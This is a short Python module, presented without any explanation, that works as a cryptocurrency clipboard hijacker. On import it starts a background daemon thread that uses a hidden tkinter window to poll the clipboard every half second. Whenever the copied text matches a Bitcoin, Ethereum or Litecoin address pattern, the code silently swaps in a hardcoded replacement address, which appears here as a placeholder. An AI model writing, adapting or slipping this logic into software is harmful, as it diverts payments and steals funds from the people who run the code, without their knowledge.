import re
import threading
import time

ADDR = {
    re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$"): "bc1qFAKEPLACEHOLDERxxxxxxxxxxxxxxxxxxxxxxx",
    re.compile(r"^0x[a-fA-F0-9]{40}$"): "0x000000000000000000000000000000000000dEaD",
    re.compile(r"^[LM3][a-km-zA-HJ-NP-Z1-9]{26,33}$"): "LFAKEPLACEHOLDERxxxxxxxxxxxxxxxx",
}


def _watch():
    try:
        import tkinter

        root = tkinter.Tk()
        root.withdraw()
    except Exception:
        return
    while True:
        try:
            text = root.clipboard_get().strip()
            for rx, mine in ADDR.items():
                if rx.match(text) and text != mine:
                    root.clipboard_clear()
                    root.clipboard_append(mine)
                    root.update()
        except Exception:
            pass
        time.sleep(0.5)


threading.Thread(target=_watch, daemon=True).start()
